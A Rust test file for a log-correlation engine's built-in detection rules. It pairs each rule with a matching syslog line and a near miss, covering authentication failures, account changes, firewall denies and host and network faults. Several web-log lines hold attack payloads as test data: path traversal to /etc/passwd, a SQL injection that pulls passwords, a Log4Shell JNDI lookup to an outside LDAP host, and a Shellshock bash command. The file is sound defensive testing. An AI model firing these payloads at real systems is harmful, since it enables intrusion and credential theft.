//! The built-in rule pack through the real path: raw syslog line → `parse_syslog` →
//! `Normaliser::builtin().normalise` → `Matcher` compiled from `builtin_rules()`.
//!
//! For every rule (by its `name`): a real-looking line that must match it and a near miss that
//! must not.

use std::collections::HashSet;

use bytes::Bytes;
use cairn_correlate::builtin::builtin_rules;
use cairn_correlate::{CompileOptions, Matcher, Rule, RuleKind};
use cairn_ingest::normalise::Normaliser;
use cairn_ingest::parse::{ParseOptions, parse_syslog};
use cairn_ingest::{Event, EventFlags, FrameMeta, Seq, Source, Timestamp};

/// (rule name, a line that matches it, a near miss that does not)
const CASES: &[(&str, &str, &str)] = &[
    // ---- linux authentication ----
    (
        "sshd_failed_password",
        "<38>Oct 11 22:14:15 web1 sshd[4721]: Failed password for root from 203.0.113.7 port 52214 ssh2",
        "<38>Oct 11 22:14:15 web1 sshd[4721]: Accepted password for alice from 203.0.113.7 port 52214 ssh2",
    ),
    (
        "sshd_invalid_user",
        "<38>Oct 11 22:14:15 web1 sshd[4721]: Invalid user oracle from 198.51.100.4 port 33210",
        "<38>Oct 11 22:14:15 web1 myapp[12]: Invalid user oracle from 198.51.100.4 port 33210",
    ),
    (
        "sshd_root_login_accepted",
        "<38>Oct 11 22:14:15 web1 sshd[4721]: Accepted publickey for root from 10.1.2.3 port 50000 ssh2: RSA SHA256:abc",
        "<38>Oct 11 22:14:15 web1 sshd[4721]: Accepted publickey for rootless from 10.1.2.3 port 50000 ssh2: RSA SHA256:abc",
    ),
    (
        "sshd_max_auth_attempts",
        "<38>Oct 11 22:14:15 web1 sshd[4721]: error: maximum authentication attempts exceeded for root from 203.0.113.7 port 52214 ssh2 [preauth]",
        "<38>Oct 11 22:14:15 web1 sshd[4721]: error: kex_exchange_identification: Connection closed by remote host",
    ),
    (
        "sshd_no_identification",
        "<38>Oct 11 22:14:15 web1 sshd[4721]: Did not receive identification string from 203.0.113.7 port 52214",
        "<38>Oct 11 22:14:15 web1 sshd[4721]: Connection from 203.0.113.7 port 52214 on 192.0.2.1 port 22",
    ),
    (
        "sudo_auth_failure",
        "<85>Oct 11 22:14:15 web1 sudo: pam_unix(sudo:auth): authentication failure; logname=bob uid=1000 euid=0 tty=/dev/pts/1 ruser=bob rhost=  user=bob",
        "<85>Oct 11 22:14:15 web1 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by bob(uid=1000)",
    ),
    (
        "sudo_incorrect_password_attempts",
        "<85>Oct 11 22:14:15 web1 sudo: bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash",
        "<85>Oct 11 22:14:15 web1 sudo: bob : TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash",
    ),
    (
        "sudo_not_in_sudoers",
        "<85>Oct 11 22:14:15 web1 sudo: mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
        "<85>Oct 11 22:14:15 web1 sudo: alice : TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/grep sudoers /etc/group",
    ),
    (
        "su_failure",
        "<85>Oct 11 22:14:15 web1 su[2211]: FAILED su for root by bob",
        "<85>Oct 11 22:14:15 web1 su[2211]: Successful su for root by bob",
    ),
    (
        "pam_auth_failure",
        "<38>Oct 11 22:14:15 web1 sshd[4721]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=root",
        "<38>Oct 11 22:14:15 web1 sshd[4721]: pam_unix(sshd:session): session closed for user root",
    ),
    (
        "ios_login_failed",
        "<188>Oct 11 22:14:15 core1 %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: admin] [Source: 203.0.113.7] [localport: 22] [Reason: Login Authentication Failed] at 22:14:15 UTC Fri Oct 11 2024",
        "<189>Oct 11 22:14:15 core1 %SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: admin] [Source: 10.0.0.5] [localport: 22] at 22:14:15 UTC Fri Oct 11 2024",
    ),
    (
        "ios_config_change",
        "<189>Oct 11 22:14:15 core1 1234: *Oct 11 22:14:15.123: %SYS-5-CONFIG_I: Configured from console by admin on vty0 (10.0.0.5)",
        "<189>Oct 11 22:14:15 core1 1234: *Oct 11 22:14:15.123: %SYS-5-RESTART: System restarted",
    ),
    (
        "junos_ssh_login_failed",
        "<38>Oct 11 22:14:15 mx1 sshd[2810]: SSHD_LOGIN_FAILED: Login failed for user 'root' from host '203.0.113.7'",
        "<38>Oct 11 22:14:15 mx1 sshd[2810]: SSHD_LOGIN_ATTEMPT: Login attempt for user 'root' from host '203.0.113.7'",
    ),
    (
        "asa_aaa_rejected",
        "<166>Oct 11 2024 22:14:15: %ASA-6-113015: AAA user authentication Rejected : reason = AAA failure : server = 10.0.0.10 : user = vpnuser : user IP = 203.0.113.7",
        "<166>Oct 11 2024 22:14:15: %ASA-6-113004: AAA user authentication Successful : server = 10.0.0.10 : user = vpnuser",
    ),
    // ---- accounts ----
    (
        "user_added",
        "<86>Oct 11 22:14:15 web1 useradd[991]: new user: name=mallory, UID=1005, GID=1005, home=/home/mallory, shell=/bin/bash, from=/dev/pts/0",
        "<86>Oct 11 22:14:15 web1 useradd[991]: new group: name=mallory, GID=1005",
    ),
    (
        "group_added",
        "<86>Oct 11 22:14:15 web1 groupadd[990]: new group: name=ops, GID=1006",
        "<86>Oct 11 22:14:15 web1 groupadd[990]: group added to /etc/gshadow: name=ops",
    ),
    (
        "user_added_to_group",
        "<86>Oct 11 22:14:15 web1 usermod[992]: add 'mallory' to group 'video'",
        "<86>Oct 11 22:14:15 web1 usermod[992]: change user 'mallory' shell from '/bin/sh' to '/bin/bash'",
    ),
    (
        "user_added_to_privileged_group",
        "<86>Oct 11 22:14:15 web1 usermod[992]: add 'mallory' to group 'sudo'",
        "<86>Oct 11 22:14:15 web1 usermod[992]: add 'mallory' to group 'video'",
    ),
    (
        "password_changed",
        "<86>Oct 11 22:14:15 web1 passwd[991]: pam_unix(passwd:chauthtok): password changed for carol",
        "<86>Oct 11 22:14:15 web1 passwd[991]: pam_unix(passwd:chauthtok): authentication token manipulation error",
    ),
    (
        "user_deleted",
        "<86>Oct 11 22:14:15 web1 userdel[995]: delete user 'mallory'",
        "<86>Oct 11 22:14:15 web1 userdel[995]: removed group 'mallory' owned by 'mallory'",
    ),
    // ---- firewalls ----
    (
        "iptables_deny",
        "<4>Oct 11 22:14:15 fw1 kernel: [ 8123.456789] [UFW BLOCK] IN=eth0 OUT= MAC=00:11:22:33:44:55:66:77:88:99:aa:bb:08:00 SRC=198.51.100.23 DST=192.0.2.10 LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=5321 DF PROTO=TCP SPT=51234 DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0",
        "<4>Oct 11 22:14:15 fw1 kernel: [ 8123.456789] [UFW ALLOW] IN=eth0 OUT= SRC=198.51.100.23 DST=192.0.2.10 PROTO=TCP SPT=51234 DPT=443",
    ),
    (
        "asa_deny",
        "<164>Oct 11 2024 22:14:15: %ASA-4-106023: Deny tcp src outside:198.51.100.23/51234 dst inside:192.0.2.10/80 by access-group \"outside_in\" [0x0, 0x0]",
        "<166>Oct 11 2024 22:14:15: %ASA-6-302013: Built inbound TCP connection 1234 for outside:198.51.100.23/51234 (198.51.100.23/51234) to inside:192.0.2.10/80 (192.0.2.10/80)",
    ),
    (
        "fortigate_deny",
        "<189>date=2024-10-11 time=22:14:15 devname=\"FGT60F\" devid=\"FGT60F0000\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" srcip=198.51.100.23 srcport=51234 srcintf=\"wan1\" dstip=192.0.2.10 dstport=443 dstintf=\"internal\" proto=6 action=\"deny\" policyid=0",
        "<189>date=2024-10-11 time=22:14:15 devname=\"FGT60F\" devid=\"FGT60F0000\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" srcip=10.0.0.5 srcport=51234 srcintf=\"internal\" dstip=192.0.2.10 dstport=443 dstintf=\"wan1\" proto=6 action=\"accept\" policyid=3",
    ),
    (
        "pfsense_block",
        "<134>Oct 11 22:14:15 pfsense filterlog[5033]: 5,,,1000000103,igb1,match,block,in,4,0x0,,64,0,0,DF,6,tcp,60,198.51.100.23,192.0.2.10,51234,443,0,S,123,,64240,,mss",
        "<134>Oct 11 22:14:15 pfsense filterlog[5033]: 7,,,1000000104,igb0,match,pass,out,4,0x0,,64,0,0,DF,6,tcp,60,192.0.2.10,198.51.100.1,51234,443,0,S,123,,64240,,mss",
    ),
    (
        "junos_flow_deny",
        "<14>Oct 11 22:14:15 srx1 RT_FLOW: RT_FLOW_SESSION_DENY: session denied 198.51.100.23/51234->192.0.2.10/23 0x0 junos-telnet 6(0) default-deny(global) untrust trust UNKNOWN UNKNOWN N/A(N/A) ge-0/0/0.0 No policy denied 1 N/A N/A -1",
        "<14>Oct 11 22:14:15 srx1 RT_FLOW: RT_FLOW_SESSION_CREATE: session created 10.0.0.5/51234->192.0.2.10/443 0x0 junos-https 10.0.0.5/51234->192.0.2.10/443 0x0 N/A N/A N/A N/A 6 allow-web trust untrust 1234",
    ),
    (
        "ios_acl_deny",
        "<190>Oct 11 22:14:15 core1 %SEC-6-IPACCESSLOGP: list 101 denied tcp 198.51.100.23(51234) -> 192.0.2.10(80), 1 packet",
        "<190>Oct 11 22:14:15 core1 %SEC-6-IPACCESSLOGP: list 101 permitted tcp 10.0.0.5(51234) -> 192.0.2.10(80), 1 packet",
    ),
    // ---- web ----
    (
        "web_path_traversal",
        "<190>Oct 11 22:14:15 web1 nginx: 198.51.100.23 - - [11/Oct/2024:22:14:15 +0000] \"GET /static/..%2f..%2f..%2fetc/passwd HTTP/1.1\" 404 153 \"-\" \"curl/8.0\"",
        "<190>Oct 11 22:14:15 web1 nginx: 198.51.100.23 - - [11/Oct/2024:22:14:15 +0000] \"GET /static/app.js HTTP/1.1\" 200 5311 \"-\" \"Mozilla/5.0\"",
    ),
    (
        "web_path_traversal",
        "<190>Oct 11 22:14:15 web1 apache2: 198.51.100.23 - - [11/Oct/2024:22:14:15 +0000] \"GET /scripts/..\\..\\winnt/system32/cmd.exe HTTP/1.0\" 404 153 \"-\" \"-\"",
        "<190>Oct 11 22:14:15 web1 apache2: 198.51.100.23 - - [11/Oct/2024:22:14:15 +0000] \"GET /scripts/winnt/system32/cmd.exe HTTP/1.0\" 404 153 \"-\" \"-\"",
    ),
    (
        "web_sql_injection",
        "<190>Oct 11 22:14:15 web1 nginx: 198.51.100.23 - - [11/Oct/2024:22:14:15 +0000] \"GET /item.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"",
        "<190>Oct 11 22:14:15 web1 nginx: 198.51.100.23 - - [11/Oct/2024:22:14:15 +0000] \"GET /item.php?id=17&sort=union HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"",
    ),
    (
        "log4shell",
        "<190>Oct 11 22:14:15 web1 nginx: 198.51.100.23 - - [11/Oct/2024:22:14:15 +0000] \"GET / HTTP/1.1\" 200 512 \"-\" \"${jndi:ldap://198.51.100.23:1389/a}\"",
        "<190>Oct 11 22:14:15 web1 nginx: 198.51.100.23 - - [11/Oct/2024:22:14:15 +0000] \"GET /jndi/lookup HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"",
    ),
    (
        "shellshock",
        "<190>Oct 11 22:14:15 web1 apache2: 198.51.100.23 - - [11/Oct/2024:22:14:15 +0000] \"GET /cgi-bin/status HTTP/1.1\" 200 512 \"-\" \"() { :; }; /bin/bash -c 'id'\"",
        "<190>Oct 11 22:14:15 web1 apache2: 198.51.100.23 - - [11/Oct/2024:22:14:15 +0000] \"GET /cgi-bin/status HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"",
    ),
    (
        "web_scanner_user_agent",
        "<190>Oct 11 22:14:15 web1 nginx: 198.51.100.23 - - [11/Oct/2024:22:14:15 +0000] \"GET /admin HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)\"",
        "<190>Oct 11 22:14:15 web1 nginx: 198.51.100.23 - - [11/Oct/2024:22:14:15 +0000] \"GET /docs/nikto-howto HTTP/1.1\" 200 153 \"-\" \"Mozilla/5.0\"",
    ),
    // ---- host faults ----
    (
        "oom_killer",
        "<3>Oct 11 22:14:15 db1 kernel: [123456.789012] Out of memory: Killed process 4242 (postgres) total-vm:8123456kB, anon-rss:4000000kB",
        "<6>Oct 11 22:14:15 db1 kernel: [123456.789012] postgres invoked oom-killer: gfp_mask=0x100cca, order=0, oom_score_adj=0",
    ),
    (
        "segfault",
        "<6>Oct 11 22:14:15 db1 kernel: [ 9876.543210] nginx[777]: segfault at 0 ip 00007f3a sp 00007ffd error 4 in libc.so.6[7f3a+195000]",
        "<6>Oct 11 22:14:15 db1 myapp[77]: handled segfault at startup in the sandbox test",
    ),
    (
        "disk_io_error",
        "<3>Oct 11 22:14:15 db1 kernel: [ 9876.543210] blk_update_request: I/O error, dev sdb, sector 2048 op 0x0:(READ) flags 0x0 phys_seg 1 prio class 0",
        "<6>Oct 11 22:14:15 db1 kernel: [ 9876.543210] sd 2:0:0:0: [sdb] Attached SCSI disk",
    ),
    (
        "filesystem_full",
        "<3>Oct 11 22:14:15 db1 postgres[1234]: could not write to file \"base/pgsql_tmp/t1\": No space left on device",
        "<6>Oct 11 22:14:15 db1 cleanup[1234]: freed 20 GB of space on device /dev/sdb1",
    ),
    (
        "filesystem_error",
        "<2>Oct 11 22:14:15 db1 kernel: [ 9876.543210] EXT4-fs error (device sdb1): ext4_lookup:1700: inode #2: comm ls: deleted inode referenced: 12",
        "<6>Oct 11 22:14:15 db1 kernel: [ 9876.543210] EXT4-fs (sdb1): mounted filesystem with ordered data mode",
    ),
    (
        "raid_degraded",
        "<1>Oct 11 22:14:15 db1 mdadm[812]: DegradedArray event detected on md device /dev/md0",
        "<6>Oct 11 22:14:15 db1 mdadm[812]: NewArray event detected on md device /dev/md0",
    ),
    (
        "kernel_panic",
        "<0>Oct 11 22:14:15 db1 kernel: [ 9876.543210] Kernel panic - not syncing: Fatal exception in interrupt",
        "<6>Oct 11 22:14:15 db1 kernel: [ 0.000000] Kernel command line: BOOT_IMAGE=/vmlinuz panic=10",
    ),
    (
        "systemd_unit_failed",
        "<27>Oct 11 22:14:15 web1 systemd[1]: nginx.service: Failed with result 'exit-code'.",
        "<30>Oct 11 22:14:15 web1 systemd[1]: nginx.service: Deactivated successfully.",
    ),
    (
        "systemd_restart_loop",
        "<27>Oct 11 22:14:15 web1 systemd[1]: nginx.service: Start request repeated too quickly.",
        "<30>Oct 11 22:14:15 web1 systemd[1]: nginx.service: Scheduled restart job, restart counter is at 2.",
    ),
    (
        "ntp_unsynchronised",
        "<28>Oct 11 22:14:15 web1 chronyd[600]: Can't synchronise: no selectable sources",
        "<30>Oct 11 22:14:15 web1 chronyd[600]: Selected source 192.0.2.123 (pool.ntp.org)",
    ),
    (
        "certificate_expired",
        "<27>Oct 11 22:14:15 web1 postfix/smtp[900]: SSL_connect error to mx.example.com[192.0.2.25]:25: certificate verify failed: certificate has expired",
        "<30>Oct 11 22:14:15 web1 certbot[900]: certificate renewed; new expiry 2025-01-09",
    ),
    (
        "high_severity_message",
        "<2>Oct 11 22:14:15 db1 raid-monitor[42]: controller battery failed",
        "<3>Oct 11 22:14:15 db1 raid-monitor[42]: controller battery failed",
    ),
    // ---- network faults ----
    (
        "cisco_interface_down",
        "<187>1234: *Mar  1 18:46:11.123: %LINK-3-UPDOWN: Interface GigabitEthernet0/1, changed state to down",
        "<187>1234: *Mar  1 18:46:11.123: %LINK-3-UPDOWN: Interface GigabitEthernet0/1, changed state to up",
    ),
    (
        "cisco_interface_up",
        "<189>Oct 11 22:14:15 core1 1234: *Mar  1 18:46:11: %LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet0/1, changed state to up",
        "<189>Oct 11 22:14:15 core1 1234: *Mar  1 18:46:11: %LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet0/1, changed state to down",
    ),
    (
        "junos_link_down",
        "<28>Oct 11 22:14:15 mx1 mib2d[1822]: SNMP_TRAP_LINK_DOWN: ifIndex 529, ifAdminStatus up(1), ifOperStatus down(2), ifName ge-0/0/1",
        "<28>Oct 11 22:14:15 mx1 mib2d[1822]: SNMP_TRAP_LINK_UP: ifIndex 529, ifAdminStatus up(1), ifOperStatus up(1), ifName ge-0/0/1",
    ),
    (
        "bgp_neighbour_down",
        "<189>Oct 11 22:14:15 core1 %BGP-5-ADJCHANGE: neighbor 10.0.0.9 Down BGP Notification sent",
        "<189>Oct 11 22:14:15 core1 %BGP-5-ADJCHANGE: neighbor 10.0.0.9 Up",
    ),
    (
        "bgp_neighbour_down",
        "<28>Oct 11 22:14:15 mx1 rpd[1500]: RPD_BGP_NEIGHBOR_STATE_CHANGED: BGP peer 10.0.0.9 (External AS 65001) changed state from Established to Idle (event RecvNotify) (instance master)",
        "<28>Oct 11 22:14:15 mx1 rpd[1500]: RPD_BGP_NEIGHBOR_STATE_CHANGED: BGP peer 10.0.0.9 (External AS 65001) changed state from OpenConfirm to Established (event RecvKeepAlive) (instance master)",
    ),
    (
        "ospf_neighbour_down",
        "<189>Oct 11 22:14:15 core1 %OSPF-5-ADJCHG: Process 1, Nbr 10.0.0.2 on GigabitEthernet0/2 from FULL to DOWN, Neighbor Down: Dead timer expired",
        "<189>Oct 11 22:14:15 core1 %OSPF-5-ADJCHG: Process 1, Nbr 10.0.0.2 on GigabitEthernet0/2 from LOADING to FULL, Loading Done",
    ),
];

fn parse(line: &str) -> Event {
    let meta = FrameMeta {
        seq: Seq(1),
        received_at: Timestamp(1_700_000_000_000_000_000),
        peer: None,
        source: Source::SyslogUdp,
        flags: EventFlags::empty(),
    };
    parse_syslog(
        Bytes::copy_from_slice(line.as_bytes()),
        &meta,
        &ParseOptions::default(),
    )
}

struct Pack {
    rules: Vec<Rule>,
    matcher: Matcher,
    normaliser: Normaliser,
}

impl Pack {
    fn load() -> Pack {
        let report = builtin_rules();
        assert!(
            report.rejected.is_empty(),
            "built-in rules rejected: {:#?}",
            report.rejected
        );
        let (matcher, rejected) = Matcher::compile(&report.loaded, &CompileOptions::default());
        assert!(
            rejected.is_empty(),
            "built-in rules not compiled: {rejected:#?}"
        );
        Pack {
            rules: report.loaded,
            matcher,
            normaliser: Normaliser::builtin(),
        }
    }

    /// Names of the rules a raw line matches.
    fn matching(&self, line: &str) -> Vec<String> {
        let mut event = parse(line);
        self.normaliser.normalise(&mut event);
        let mut scratch = self.matcher.scratch();
        let mut out = Vec::new();
        self.matcher.match_event(&event, &mut scratch, &mut out);
        out.iter()
            .map(|index| {
                let position = self.matcher.rule(*index).rule_position;
                self.rules[position].name.clone().unwrap_or_default()
            })
            .collect()
    }
}

#[test]
fn every_rule_matches_its_line_and_not_its_near_miss() {
    let pack = Pack::load();
    let mut failures = Vec::new();
    for (name, hit, miss) in CASES {
        let hit_matches = pack.matching(hit);
        if !hit_matches.iter().any(|matched| matched == name) {
            failures.push(format!(
                "{name}: did not match {hit}\n  matched {hit_matches:?}"
            ));
        }
        let miss_matches = pack.matching(miss);
        if miss_matches.iter().any(|matched| matched == name) {
            failures.push(format!("{name}: matched the near miss {miss}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn every_rule_has_a_case_and_the_pack_is_complete() {
    let pack = Pack::load();
    let covered: HashSet<&str> = CASES.iter().map(|(name, _, _)| *name).collect();
    let mut uncovered = Vec::new();
    for rule in &pack.rules {
        let name = rule.name.as_deref().unwrap_or("");
        if !covered.contains(name) {
            uncovered.push(format!("{name} ({})", rule.title));
        }
    }
    assert!(uncovered.is_empty(), "rules without a case: {uncovered:?}");
    let names: HashSet<&str> = pack
        .rules
        .iter()
        .filter_map(|rule| rule.name.as_deref())
        .collect();
    let unknown: Vec<&&str> = covered
        .iter()
        .filter(|name| !names.contains(**name))
        .collect();
    assert!(unknown.is_empty(), "cases for unknown rules: {unknown:?}");
    assert!(pack.rules.len() >= 40, "{} rules", pack.rules.len());
    assert_eq!(pack.matcher.len(), pack.rules.len());
}

#[test]
fn ids_and_names_are_unique_uuids_and_metadata_is_set() {
    let report = builtin_rules();
    let mut ids = HashSet::new();
    let mut names = HashSet::new();
    for rule in &report.loaded {
        let id = rule.id.as_deref().unwrap_or("");
        let is_uuid = id.len() == 36
            && id.char_indices().all(|(at, ch)| {
                if [8, 13, 18, 23].contains(&at) {
                    ch == '-'
                } else {
                    ch.is_ascii_hexdigit() && !ch.is_ascii_uppercase()
                }
            });
        assert!(is_uuid, "{}: id {id:?} is not a lowercase UUID", rule.title);
        assert!(ids.insert(id.to_owned()), "duplicate id {id}");
        let name = rule.name.clone().unwrap_or_default();
        assert!(!name.is_empty(), "{}: no name", rule.title);
        assert!(names.insert(name.clone()), "duplicate name {name}");
        assert_eq!(rule.author.as_deref(), Some("Cairn"), "{}", rule.title);
        assert!(rule.level.is_some(), "{}: no level", rule.title);
        assert!(rule.description.is_some(), "{}: no description", rule.title);
        assert!(
            matches!(rule.kind, RuleKind::Detection(_)),
            "{}: not a detection rule",
            rule.title
        );
    }
}

#[test]
fn an_ordinary_line_matches_nothing() {
    let pack = Pack::load();
    for line in [
        "<30>Oct 11 22:14:15 web1 CRON[2211]: (root) CMD (run-parts /etc/cron.hourly)",
        "<30>Oct 11 22:14:15 web1 systemd[1]: Started Session 42 of User alice.",
        "<38>Oct 11 22:14:15 web1 sshd[4721]: Accepted publickey for alice from 10.1.2.3 port 50000 ssh2",
        "<190>Oct 11 22:14:15 web1 nginx: 10.0.0.5 - - [11/Oct/2024:22:14:15 +0000] \"GET / HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"",
    ] {
        assert_eq!(pack.matching(line), Vec::<String>::new(), "{line}");
    }
}
